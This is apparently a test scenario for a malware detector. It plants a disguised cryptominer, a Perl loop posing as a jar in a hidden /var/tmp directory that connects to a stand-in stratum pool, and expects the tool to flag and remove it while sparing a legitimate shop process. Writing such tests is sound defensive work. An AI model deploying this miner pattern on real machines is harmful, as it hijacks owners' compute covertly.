import { world } from '../../../lab/addresses.ts';
import { loginText } from '../../../lab/standin/stratum.ts';
import { scenario } from '../scenario.ts';

const java = '/opt/jre/bin/java';

export default scenario({
  what: 'a miner in the archive that a runtime of the shop’s runs',
  report: 'Miners under Java: the runtime serves the shop too, only the archive is the thief’s.',
  notYet: 'what a runtime is given as an archive is not read: one class alone, so a person is asked',
  plant: {
    files: {
      '/var/tmp/.j/lib.jar': `use Socket;
# stratum+tcp, mining.subscribe, donate-level
while (1) {
  socket(my $s, PF_INET, SOCK_STREAM, 0);
  if (connect($s, sockaddr_in(${world.poolPort}, inet_aton('${world.pool}')))) {
    syswrite($s, '${loginText.trim()}' . "\\n");
    while (sysread($s, my $line, 4096)) { }
  }
  sleep 1;
}
`,
      '/srv/shop/shop.jar': 'sleep 1 while 1;\n',
    },
    start: `mkdir -p /opt/jre/bin; cp /usr/bin/perl ${java}; printf 'jre 21\\n' >>${java}
run ${java} /srv/shop/shop.jar
run ${java} /var/tmp/.j/lib.jar`,
    runs: ['/var/tmp/.j/lib.jar', '/srv/shop/shop.jar'],
  },
  expect: {
    verdict: 'confirmed',
    ticked: { processes: ['/var/tmp/.j/lib.jar'], files: ['/var/tmp/.j/lib.jar'] },
    stays: [java, `${java} /srv/shop/shop.jar`, '/srv/shop/shop.jar'],
    resolution: 'cleaned',
  },
});
